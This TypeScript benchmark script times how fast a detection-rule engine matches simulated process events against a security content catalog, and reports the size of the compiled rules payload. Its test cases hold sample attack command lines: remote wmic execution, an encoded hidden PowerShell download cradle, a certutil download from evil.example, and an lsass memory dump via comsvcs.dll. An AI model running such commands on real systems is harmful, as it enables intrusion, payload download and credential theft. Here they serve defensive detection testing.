/**
 * `npx tsx scripts/bench-tester.ts [--reference] [--browser]`: prints figures, asserts nothing.
 * Loads the real corpus from ../shared/corpora/security_content (or CATALOG_CONTENT), compiles
 * the tester catalog once and reports the median / p95 time of matchEvent (one built process
 * event against every rule) for a few representative command lines, with and without near
 * misses (200 runs each), and the size of the compiled rules payload (/tester/rules.json) raw
 * and gzipped. `--reference` also times matchEventReference (the straightforward evaluation);
 * `--browser` runs the same engine on the same payload in Chromium (bundled with esbuild).
 */
import { existsSync } from "node:fs"
import { gzipSync } from "node:zlib"

import { build } from "esbuild"

import { testerRules } from "../lib/tester/rules-data.ts"
import type { BrowserCase, BrowserRow } from "./bench/tester-entry.ts"
import { launchChromium } from "./bench/chromium.ts"

import { loadCatalog } from "../lib/catalog/load.node.ts"
import { buildProcessEvents } from "../lib/tester/event.ts"
import { compileCatalog, matchEvent, matchEventReference, type CompiledCatalog, type MatchOptions, type TesterInput } from "../lib/tester/match.ts"

const CORPUS = process.env.CATALOG_CONTENT ?? "../shared/corpora/security_content"
if (!existsSync(CORPUS.split(",")[0] ?? "")) {
  console.log(`bench-tester: ${CORPUS} is absent; nothing to measure`)
  process.exit(0)
}
const RUNS = 200
const withReference = process.argv.includes("--reference")
const inBrowser = process.argv.includes("--browser")

function quantile(xs: number[], q: number): number {
  const s = [...xs].sort((a, b) => a - b)
  return s[Math.min(s.length - 1, Math.floor(s.length * q))] ?? 0
}

const t0 = performance.now()
const catalog = loadCatalog({ roots: CORPUS.split(",") })
const loadMs = performance.now() - t0
const t1 = performance.now()
const compiled = compileCatalog(catalog.detections)
const compileMs = performance.now() - t1

const CASES: Array<[string, { cmd: string; parent?: string; user?: string; host?: string }]> = [
  ["wmic remote", { cmd: 'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"', parent: "cmd.exe", user: "CORP\\alice", host: "ws-042" }],
  ["encoded powershell", { cmd: "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", parent: "winword.exe" }],
  ["certutil -urlcache", { cmd: "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe", parent: "cmd.exe" }],
  ["rundll32 comsvcs minidump", { cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", parent: "powershell.exe" }],
  ["benign notepad", { cmd: "notepad.exe a.txt", parent: "explorer.exe" }],
]

type Fn = (c: CompiledCatalog, i: TesterInput, o?: MatchOptions) => ReturnType<typeof matchEvent>

function time(fn: Fn, input: TesterInput, options: MatchOptions): { median: number; p95: number; fired: number; near: number; undecided: number } {
  let report = fn(compiled, input, options)
  for (let i = 0; i < 10; i++) report = fn(compiled, input, options) // warm-up
  const xs: number[] = []
  for (let i = 0; i < RUNS; i++) {
    const t = performance.now()
    report = fn(compiled, input, options)
    xs.push(performance.now() - t)
  }
  return { median: quantile(xs, 0.5), p95: quantile(xs, 0.95), fired: report.counts.fired, near: report.counts.nearMisses, undecided: report.counts.undecided }
}

console.log(`corpus ${CORPUS}: ${catalog.detections.length} detections, ${compiled.rules.length} analysed; load ${loadMs.toFixed(0)} ms, compileCatalog ${compileMs.toFixed(0)} ms`)
const rows: string[][] = [["case", "impl", "near misses", "median ms", "p95 ms", "fired", "near", "undecided"]]
const impls: Array<[string, Fn]> = [["matchEvent", matchEvent]]
if (withReference) impls.push(["reference", matchEventReference])
for (const [label, input] of CASES) {
  const built = { built: buildProcessEvents(input) }
  for (const [name, fn] of impls) {
    for (const nearMisses of [true, false]) {
      const r = time(fn, built, { nearMisses })
      rows.push([label, name, nearMisses ? "yes" : "no", r.median.toFixed(3), r.p95.toFixed(3), String(r.fired), String(r.near), String(r.undecided)])
    }
  }
}
const widths = rows[0]!.map((_, i) => Math.max(...rows.map((r) => r[i]!.length)))
for (const r of rows) console.log(r.map((c, i) => (i === 0 ? c.padEnd(widths[i]!) : c.padStart(widths[i]!))).join("  "))

const payload = JSON.stringify(testerRules(catalog.detections))
console.log(`\ncompiled rules payload (/tester/rules.json): ${(payload.length / 1024).toFixed(0)} KB raw, ${(gzipSync(payload).length / 1024).toFixed(0)} KB gzipped`)

if (inBrowser) {
  const bundle = await build({ entryPoints: ["scripts/bench/tester-entry.ts"], bundle: true, write: false, format: "iife", target: "es2022", minify: true })
  const browser = await launchChromium()
  try {
    const page = await browser.newPage()
    await page.goto("about:blank")
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
    const cases: BrowserCase[] = CASES.map(([label, input]) => ({ label, input }))
    const out = await page.evaluate(
      ([json, cs, runs]) => (globalThis as unknown as { benchTester: (j: string, c: BrowserCase[], r: number) => { compileMs: number; rows: BrowserRow[] } }).benchTester(json, cs, runs),
      [payload, cases, RUNS] as const,
    )
    console.log(`\nChromium ${browser.version()}: compileCatalog ${out.compileMs.toFixed(0)} ms (JSON.parse included)`)
    const brows: string[][] = [["case", "near misses", "median ms", "p95 ms", "fired", "near"]]
    for (const r of out.rows) brows.push([r.label, r.nearMisses ? "yes" : "no", r.median.toFixed(3), r.p95.toFixed(3), String(r.fired), String(r.near)])
    const bw = brows[0]!.map((_, i) => Math.max(...brows.map((r) => r[i]!.length)))
    for (const r of brows) console.log(r.map((c, i) => (i === 0 ? c.padEnd(bw[i]!) : c.padStart(bw[i]!))).join("  "))
  } finally {
    await browser.close()
  }
}
